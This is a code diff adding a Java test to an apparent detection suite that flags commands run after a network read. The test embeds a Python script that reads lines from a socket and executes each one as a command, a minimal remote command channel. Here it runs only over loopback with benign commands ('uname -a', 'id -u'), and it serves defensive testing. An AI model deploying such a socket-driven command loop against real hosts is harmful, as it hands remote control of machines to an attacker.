@@ -364,4 +364,38 @@ class CommandFromTheNetworkTest {
         assertThat(ps).filteredOn(p -> p.argv().equals(List.of("/bin/sh", "-c", "echo got one"))).hasSize(2)
                 .allSatisfy(p -> assertThat(stagedExec(p)).as("a fixed command after a network read").isZero());
     }
+
+    /**
+     * Schema 37: an operator sending several commands in one write; the channel splits the read into lines and runs
+     * each without a shell ({@code for l in s.makefile(): subprocess.run(shlex.split(l))}).
+     */
+    @Test
+    void severalCommandsInOneReadAreEachCodeFromTheNetwork() throws Exception {
+        Files.writeString(dir.resolve("lines.py"), "import socket,subprocess,shlex,sys\n"
+                + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
+                + "for l in s.makefile('r'):\n"
+                + "    if l.strip()=='exit': break\n"
+                + "    subprocess.run(shlex.split(l),stdout=subprocess.DEVNULL)\n");
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Thread operator = new Thread(() -> {
+                try (Socket s = listener.accept()) {
+                    s.getOutputStream().write("uname -a\nid -u\nexit\n".getBytes(StandardCharsets.US_ASCII));
+                    s.getInputStream().read(); // until the channel hangs up
+                } catch (IOException ignored) {
+                    // the channel may hang up first
+                }
+            });
+            operator.setDaemon(true);
+            operator.start();
+            Path log = StraceRuns.trace(dir, StraceRuns.RECOMMENDED, TrainedModels.PYTHON.toString(), dir.resolve("lines.py").toString(),
+                    Integer.toString(listener.getLocalPort()));
+            operator.join(10_000);
+            List<ProcessRecord> ps = StraceRuns.processes(log, new BehaviourFeatures());
+            for (List<String> argv : List.of(List.of("uname", "-a"), List.of("id", "-u"))) {
+                ProcessRecord p = ps.stream().filter(r -> r.argv().equals(argv)).findFirst()
+                        .orElseThrow(() -> new AssertionError("no " + argv + " among " + ps.stream().map(ProcessRecord::argv).toList()));
+                assertThat(stagedExec(p)).as(String.join(" ", argv)).isEqualTo(1f);
+            }
+        }
+    }
 }
